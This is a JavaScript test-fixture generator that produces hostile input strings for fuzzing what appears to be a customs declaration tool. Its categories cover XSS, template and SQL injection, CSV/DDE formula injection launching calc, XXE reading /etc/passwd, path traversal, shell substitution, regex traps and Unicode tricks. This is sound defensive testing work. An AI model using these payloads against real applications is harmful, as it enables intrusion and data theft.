// Strings made to do harm, by kinds: a program writes them, so that there are as many as wanted and always the same ones.

/** A script that leaves a marker for the tests if it ever runs. @param {number} n */
const run = (n) => `globalThis.hacked=${n}`;
const pick = (/** @type {readonly string[]} */ of, /** @type {number} */ n) => of[n % of.length];

/** Half of a surrogate pair, which no program can write down as UTF-8. */
const HALVES = ["\ud800", "\udfff", "\ud83d", "\ude00"];
const OVERRIDES = ["\u202a", "\u202b", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c"];
const UNSEEN = [
  "\u200b",
  "\u200c",
  "\u200d",
  "\u2060",
  "\ufeff",
  "\u00ad",
  "\u034f",
  "\u115f",
  "\u3164",
  "\u{e0041}",
  "\ufe0f",
  "\u{1d173}",
];
const MARKS = ["\u0301", "\u0334", "\u0338", "\u20dd", "\u0489", "\u3099", "\u1ab0", "\u{1e8d0}"];
const TAGS = [
  "script",
  "img",
  "svg",
  "iframe",
  "object",
  "embed",
  "link",
  "style",
  "meta",
  "base",
  "form",
  "math",
  "template",
  "declaration-checker",
];

/** @type {Record<string, (n: number) => string>} */
export const KINDS = {
  "script elements": (n) =>
    pick(
      [
        `<script>${run(n)}</script>`,
        `</script><script>${run(n)}//`,
        `<scr<script>ipt>${run(n)}</scr</script>ipt>`,
        `<SCRIPT/x src=data:,${run(n)}>`,
      ],
      n,
    ) + " TOY CAR",
  "event handlers": (n) => `<${pick(TAGS, n)} src=x onerror="${run(n)}" onload='${run(n)}' onfocus=${run(n)} autofocus tabindex=0>TOY`,
  "broken out of attributes": (n) =>
    `${pick(['"', "'", "`", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</style>"], n)}<img src=x onerror=${run(n)}>`,
  "addresses that run": (n) =>
    `<a href="${pick(["javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,<script>", "vbscript:", "\u0001javascript:"], n)}${run(n)}">BAG</a>`,
  templates: (n) =>
    pick(
      [
        `{{constructor.constructor('${run(n)}')()}}`,
        `\${${run(n)}}`,
        `<%= ${run(n)} %>`,
        `#{${run(n)}}`,
        `{%raw%}{{7*7}}`,
        `[[\${7*7}]]`,
        `@(7*7)`,
        `\`\${${run(n)}}\``,
      ],
      n,
    ),
  "script strings": (n) =>
    pick(
      [
        `";${run(n)};"`,
        `'-${run(n)}-'`,
        `\\";${run(n)}//`,
        `\u2028${run(n)}\u2029`,
        `*/${run(n)}/*`,
        `__proto__`,
        `constructor`,
        `{"__proto__":{"hacked":${n}}}`,
        `toString`,
      ],
      n,
    ),
  styles: (n) =>
    pick(
      [
        `<style>*{background:url(//example.com/${n})}</style>`,
        `red;background:url(javascript:${run(n)})`,
        `@import 'data:,x';`,
        `}*{display:none}`,
        `expression(${run(n)})`,
      ],
      n,
    ),
  "overrides of direction": (n) => `TOY ${pick(OVERRIDES, n).repeat(1 + (n % 60))}RAC EGDIRTRAC${pick(OVERRIDES, n + 3)} BOX`,
  "unseen characters": (n) => [..."SAMPLE GIFT"].join(pick(UNSEEN, n).repeat(1 + (n % 5))),
  "marks without end": (n) => `LAMP${pick(MARKS, n).repeat(200 + 90 * (n % 40))} LED${MARKS.join("").repeat(30)}`,
  "characters of several": (n) =>
    pick(["👩‍👩‍👧‍👦", "🏳️‍🌈", "각", "🇰🇷", "e\u0301", "ﷺ", "\u1100\u1161\u11a8", "각\u0301", "﷽"], n).repeat(1 + 20 * (n % 40)),
  "letters that look alike": (n) =>
    pick(["СОТТОN Т-SНIRТ", "ℂ𝕆𝕋𝕋𝕆ℕ", "ＧＩＦＴ", "ⓖⓘⓕⓣ", "ﬁsh ﬂour", "ſample", "G\u0131FT", "𝟔𝟏𝟎𝟗.𝟏𝟎", "İSTANBUL"], n) + ` NO ${n}`,
  "control characters": (n) => `BAG${String.fromCharCode(n % 32, 127 + (n % 33), 27)}[2J\u001b]0;${run(n)}\u0007\u009b31m RED`,
  "NUL and halves": (n) => `TOY\u0000${pick(HALVES, n)}CAR\ufffe\uffff${pick(HALVES, n + 1)}`,
  formulas: (n) =>
    pick(
      [
        `=HYPERLINK("http://example.com/?"&A1,"x")`,
        `+cmd|' /C calc'!A${n}`,
        `-2+3+cmd|' /C calc'!A0`,
        `@SUM(1+1)*cmd|' /C calc'!A0`,
        `\t=1+${n}`,
        `\r=1+1`,
        `=1+1";=1+1`,
        `%0A-1+1`,
        `＝1+1`,
        `'=1+1`,
        `=DDE("cmd";"/C calc")`,
      ],
      n,
    ),
  "quotation marks": (n) => pick(['"', '""', '"x', 'x"', '","', '"\n"', "'", '"\'"', '\\"', "“”„‟", '"""""""'], n).repeat(1 + (n % 7)),
  separators: (n) => pick(["a,b;c\td|e", "a\r\nb", "a\rb", "\n\n\n", "sep=;", "a\u0085b", "a\u2028b\u2029c", "a\u000bb\fc"], n) + `,${n}`,
  XML: (n) =>
    pick(
      [
        `<!DOCTYPE a [<!ENTITY b "c"><!ENTITY c "&b;&b;">]><a>&c;</a>`,
        `<!ENTITY % x SYSTEM "file:///etc/passwd">%x;`,
        `<?xml version="1.0" encoding="x"?>`,
        `<![CDATA[${run(n)}]]>`,
        `&#x0;&#xFFFFFF;&lt;&amp;amp;`,
        `<xi:include href="file:///etc/passwd"/>`,
        `]]]]><![CDATA[>`,
      ],
      n,
    ),
  "traps for expressions": (n) =>
    pick(["a", "(a+)+", "((", "1,", "0-", " ;", "%/", "A1 ", "x@y.", "-_", "12/", "()", "[]"], n).repeat(300 + 100 * (n % 30)) +
    pick(["!", "b", "", "@"], n),
  "words without end": (n) =>
    pick(["A", "가", "漢", "9", "x1", "É", "🧸", "%", "l"], n).repeat(n % 40 === 39 ? 100_000 : 500 + 200 * (n % 40)),
  "many words": (n) =>
    `${pick(["GIFT", "샘플", "PARTS OF", "COTTON 65%", "UN1266", "MADE IN CHINA", "50-36-2", "and", "6109.10"], n)} `.repeat(
      10 + 15 * (n % 30),
    ),
  "numbers that are none": (n) =>
    pick(
      [
        "NaN",
        "1e999",
        "-Infinity",
        "0x1f",
        "1,2,3",
        "١٢٣",
        "1.2.3",
        "９９９",
        "1e-400",
        "--5",
        "999999999999999999999",
        "½",
        "1_000",
        "0.1+0.2",
        "5 PCS x 3 BOX",
      ],
      n,
    ),
  "percent signs": (n) =>
    pick(
      [
        "%s%s%s%n",
        "%00",
        "%c0%ae",
        "%u202e",
        "%%",
        "{0}",
        "{line}",
        "{}",
        "$1$&$`",
        "\\0",
        "\\x41\\u0041",
        "$(touch x)",
        "`id`",
        "; DROP TABLE lines; --",
        "../../etc/passwd",
      ],
      n,
    ),
  "codes that are none": (n) =>
    pick(
      [
        "61O9.1O-1OOO",
        "6109101000".repeat(50),
        "6-1-0-9-1-0",
        "٦١٠٩",
        "６１０９.１０",
        "6109.10-1000; DROP",
        "----------",
        "0".repeat(n % 50),
        "6109​101000",
        "HS:6109",
      ],
      n,
    ),
  spaces: (n) => pick([" ", "\u00a0", "\u3000", "\u2003", "\u1680", "\u180e", "\t"], n).repeat(1 + (n % 50)) + pick(["", "BAG", " "], n),
};

/**
 * @typedef {{ kind: string, text: string }} Hostile
 * @param {number} [count]
 * @returns {Hostile[]} as many of each kind
 */
export function hostile(count = 1000) {
  const kinds = Object.entries(KINDS);
  return Array.from({ length: count }, (_, at) => {
    const [kind, make] = kinds[at % kinds.length];
    return { kind, text: make(Math.floor(at / kinds.length)) };
  });
}

/** Lines with such strings in every field in turn. @param {number} [count] @returns {Record<string, string>[]} */
export const hostileLines = (count) =>
  hostile(count).map(({ text }, at) => {
    const others = [
      "trade_name",
      "model_spec",
      "composition",
      "origin",
      "quantity",
      "net_weight_kg",
      "currency",
      "hs_code",
      "quantity_unit",
      "parcel",
    ];
    return { id: String(at + 1), description: text, [others[at % others.length]]: text };
  });
